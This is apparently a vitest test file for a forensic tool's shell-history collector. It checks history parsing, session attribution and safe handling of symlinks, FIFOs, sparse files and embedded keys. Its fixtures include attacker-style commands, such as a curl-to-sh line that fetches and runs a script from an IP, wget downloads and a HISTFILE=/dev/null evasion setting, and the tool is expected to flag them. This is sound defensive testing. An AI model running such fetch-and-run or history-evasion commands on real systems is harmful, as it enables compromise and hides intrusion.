/**
 * The shell-history collector on fake roots made here: every format in a home, commands tied to
 * the sessions open at their time, and the attacks on the reader itself (a history linked to
 * /etc/shadow or to another account's history, a FIFO, a 1 GB sparse file, a key in a history).
 */
import { lchownSync, mkdirSync, openSync, closeSync, ftruncateSync, readFileSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { sessionAt, sessionSpans, shellHistoryCollector } from '../../../src/collectors/shell-history/shell-history.js';
import type { KnownFacts } from '../../../src/model/facts.js';
import type { SessionRecord } from '../../../src/model/logins.js';
import { tmpDir } from '../../helpers/bundle.js';
import { collectOn, fakeRoot, fakeRootOptions, put } from '../../helpers/fake-root.js';

const OPTIONS = fakeRootOptions({ maxFileBytes: 64 << 20 });
const isRoot = process.geteuid?.() === 0;

function baseRoot(): string {
  const root = fakeRoot('irt-hist-', { 'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/zsh\n' });
  mkdirSync(path.join(root, 'root'), { recursive: true });
  mkdirSync(path.join(root, 'home/alice'), { recursive: true });
  mkdirSync(path.join(root, 'home/bob'), { recursive: true });
  return root;
}

function session(user: string, login: string, logout: string | null, addr: string): SessionRecord {
  return { user, line: 'pts/0', host: addr, addr, pid: 1, login, logout, end: logout ? 'logout' : 'still-logged-in', source: 'wtmp', file: '/var/log/wtmp' };
}

function collect(root: string, facts: KnownFacts = {}) {
  return collectOn(root, [shellHistoryCollector], facts, OPTIONS);
}

describe('shell-history collector', () => {
  it('an empty root: ok, nothing found', async () => {
    const { facts, sources } = await collect(tmpDir('irt-hist-'));
    expect(sources.map((s) => [s.id, s.status])).toEqual([['shell-history', 'ok']]);
    expect([facts.historyFiles, facts.historyCommands, facts.historySettings]).toEqual([[], [], []]);
  });

  it('every format of a home is read, copied, and its stamped commands tied to the session open then', async () => {
    const root = baseRoot();
    put(root, 'home/alice/.bash_history', '#1700000000\ncd /dev/shm\n#1700000060\ncurl -s http://203.0.113.9/x.sh | sh\n#1700009000\nls\n');
    put(root, 'home/bob/.zsh_history', ': 1700000100:0;wget http://x/k.tgz\n');
    put(root, 'home/bob/.local/share/fish/fish_history', '- cmd: id\n  when: 1700000200\n');
    put(root, 'root/.python_history', 'import os\n');
    put(root, 'root/.mysql_history', 'select 1;\n');
    put(root, 'root/.psql_history', '\\du\n');
    put(root, 'root/.ash_history', 'busybox wget x\n');
    put(root, 'root/.lesshst', '.less-history-file:\n.search\n"secret\n');
    put(root, 'root/.viminfo', "# File marks:\n'0  1  0  /etc/shadow\n|4,48,1,0,1700000300,\"/etc/shadow\"\n");
    put(root, 'home/alice/.bashrc', 'export HISTFILE=/dev/null\n');
    const sessions = [session('alice', '2023-11-14T22:00:00.000Z', '2023-11-14T22:30:00.000Z', '203.0.113.9')];
    const { facts, store, sources } = await collect(root, { sessions, authLogins: [] });
    expect(sources.filter((s) => s.status !== 'ok')).toEqual([]);
    expect(facts.historyFiles!.map((f) => [f.path, f.format, f.type, f.entries]).sort()).toEqual(
      [
        ['/home/alice/.bash_history', 'bash', 'file', 3],
        ['/home/bob/.zsh_history', 'zsh', 'file', 1],
        ['/home/bob/.local/share/fish/fish_history', 'fish', 'file', 1],
        ['/root/.python_history', 'python', 'file', 1],
        ['/root/.mysql_history', 'mysql', 'file', 1],
        ['/root/.psql_history', 'psql', 'file', 1],
        ['/root/.ash_history', 'sh', 'file', 1],
        ['/root/.lesshst', 'less', 'file', 1],
        ['/root/.viminfo', 'vim', 'file', 1],
      ].sort(),
    );
    const curl = facts.historyCommands!.find((c) => c.text.startsWith('curl'))!;
    expect(curl).toMatchObject({ file: '/home/alice/.bash_history', line: 4, user: 'alice', time: '2023-11-14T22:14:20.000Z', timeSource: 'stamp' });
    expect(curl.session).toMatchObject({ source: 'wtmp', address: '203.0.113.9', login: '2023-11-14T22:00:00.000Z' });
    expect(curl.analysis!.fetchPipe).toBe('curl … | sh');
    // After the logout: no session.
    expect(facts.historyCommands!.find((c) => c.text === 'ls')!.session).toBeNull();
    const bash = facts.historyFiles!.find((f) => f.format === 'bash')!;
    expect(bash.copy).toBe('files/history/home/alice/.bash_history');
    expect(readFileSync(path.join(store.dir, bash.copy!), 'utf8')).toContain('curl -s');
    expect(bash.firstTime).toBe('2023-11-14T22:13:20.000Z');
    expect(facts.historySettings!.map((s) => [s.file, s.line, s.what, s.value])).toEqual([['/home/alice/.bashrc', 2 - 1, 'histfile', '/dev/null']]);
    const rows = store.timelineEvents.filter((e) => e.source === 'shell-history');
    expect(rows.find((r) => r.message.includes('curl'))).toMatchObject({ datetime: '2023-11-14T22:14:20.000Z', user: 'alice', ip: '203.0.113.9', timestamp_desc: 'Command time (history stamp)' });
    expect(rows.find((r) => r.message.includes('import os'))!.timestamp_desc).toMatch(/typed at or before/);
  });

  it('a history that is a link (to /dev/null, to /etc/shadow) is recorded with its target and never read or copied', async () => {
    const root = baseRoot();
    put(root, 'etc/shadow', 'root:$6$abcdefgh$ijklmnopqrstuvwxyz0123456789:19000:0:99999:7:::\n');
    symlinkSync('/dev/null', path.join(root, 'root/.bash_history'));
    symlinkSync('/etc/shadow', path.join(root, 'home/alice/.bash_history'));
    put(root, 'root/.zsh_history', ': 1700000000:0;cat /root/plans\n');
    symlinkSync('../../root/.zsh_history', path.join(root, 'home/bob/.zsh_history'));
    const { facts, store } = await collect(root);
    expect(facts.historyFiles!.filter((f) => f.type === 'link').map((f) => [f.path, f.type, f.linkTarget, f.copy]).sort()).toEqual([
      ['/home/alice/.bash_history', 'link', '/etc/shadow', null],
      ['/home/bob/.zsh_history', 'link', '../../root/.zsh_history', null],
      ['/root/.bash_history', 'link', '/dev/null', null],
    ]);
    expect(facts.historyCommands!.map((c) => [c.user, c.text])).toEqual([['root', 'cat /root/plans']]);
    expect(store.files.has('files/history/home/bob/.zsh_history')).toBe(false);
    expect(existsSync(path.join(store.dir, 'files/history/home/alice'))).toBe(false);
  });

  it.skipIf(!isRoot)('a home folder linked by its owner to another account\'s home is not read through', async () => {
    const root = baseRoot();
    put(root, 'root/.bash_history', 'cat /root/secret-plans\n');
    // bob owns /home/bob and replaces his .local with a link to root's folder: the fish history under it is root's file.
    mkdirSync(path.join(root, 'root/.local/share/fish'), { recursive: true });
    put(root, 'root/.local/share/fish/fish_history', '- cmd: root only\n  when: 1700000000\n');
    symlinkSync('/root/.local', path.join(root, 'home/bob/.local'));
    lchownSync(path.join(root, 'home/bob/.local'), 1001, 1001);
    const { facts, sources } = await collect(root);
    const fish = facts.historyFiles!.find((f) => f.path === '/home/bob/.local/share/fish/fish_history')!;
    expect(fish.copy).toBeNull();
    expect(fish.notRead).toMatch(/link owned by uid 1001/);
    expect(facts.historyCommands!.filter((c) => c.text === 'root only').map((c) => c.user)).toEqual(['root']);
    expect(sources.some((s) => s.status === 'skipped' && s.path === '/home/bob/.local/share/fish/fish_history')).toBe(true);
  });

  it('a FIFO history is not opened (no hang); a history holding a private key is withheld', async () => {
    const root = baseRoot();
    execFileSync('mkfifo', [path.join(root, 'root/.bash_history')]);
    put(root, 'home/alice/.bash_history', `cat > k <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAA'.repeat(3)}\n-----END OPENSSH PRIVATE KEY-----\nEOF\n`);
    const { facts, store } = await collect(root);
    expect(facts.historyFiles!.find((f) => f.path === '/root/.bash_history')!.type).toBe('other');
    const alice = facts.historyFiles!.find((f) => f.path === '/home/alice/.bash_history')!;
    expect(alice.notRead).toMatch(/private key/);
    expect(alice.copy).toBeNull();
    expect(facts.historyCommands).toEqual([]);
    expect(existsSync(path.join(store.dir, 'files/history/home/alice/.bash_history'))).toBe(false);
  });

  it('a 1 GB sparse history is read and copied only up to the cap, and says so', async () => {
    const root = baseRoot();
    const p = path.join(root, 'home/alice/.bash_history');
    writeFileSync(p, '#1700000000\nid\n');
    const fd = openSync(p, 'r+');
    ftruncateSync(fd, 1024 * 1024 * 1024);
    closeSync(fd);
    const t0 = Date.now();
    const { facts, sources, store } = await collect(root);
    const ms = Date.now() - t0;
    const f = facts.historyFiles!.find((x) => x.path === '/home/alice/.bash_history')!;
    expect(f.truncated).toBe(true);
    expect(f.size).toBe(1024 * 1024 * 1024);
    expect(store.files.get(f.copy!)!.size).toBe(16 * 1024 * 1024);
    expect(sources.some((s) => s.status === 'ok' && s.path === f.path && /cap/.test(s.detail ?? ''))).toBe(true);
    // Lines between two stamps are one entry (bash's lithist): the command, then the zeros cut at the entry cap.
    expect(facts.historyCommands!.some((c) => c.text.startsWith('id\n') && c.time === '2023-11-14T22:13:20.000Z')).toBe(true);
    expect(ms).toBeLessThan(20_000);
  });
});

describe('sessionAt', () => {
  it('the latest login before the time whose end is after it; open sessions run on; auth-log logins count', () => {
    const spans = sessionSpans(
      [session('a', '2024-01-01T10:00:00Z', '2024-01-01T11:00:00Z', '198.51.100.1'), session('a', '2024-01-01T10:30:00Z', null, '198.51.100.2')],
      [{ time: '2024-01-02T00:00:00Z', user: 'a', address: '198.51.100.3', port: 1, method: 'password', key: null, host: null, program: 'sshd', pid: 1, source: '/var/log/auth.log', lineNo: 1, logout: '2024-01-02T01:00:00Z', failuresFromAddress: { count: 0, first: null, last: null }, failuresForUser: { count: 0, first: null, last: null, addresses: 0, addressesCapped: false } }],
    );
    expect(sessionAt(spans.get('a'), Date.parse('2024-01-01T10:10:00Z'))!.address).toBe('198.51.100.1');
    expect(sessionAt(spans.get('a'), Date.parse('2024-01-01T10:40:00Z'))!.address).toBe('198.51.100.2');
    expect(sessionAt(spans.get('a'), Date.parse('2024-01-02T00:10:00Z'))!.address).toBe('198.51.100.3');
    expect(sessionAt(spans.get('a'), Date.parse('2024-01-01T09:00:00Z'))).toBeNull();
    expect(sessionAt(spans.get('b'), Date.parse('2024-01-01T10:10:00Z'))).toBeNull();
  });
});
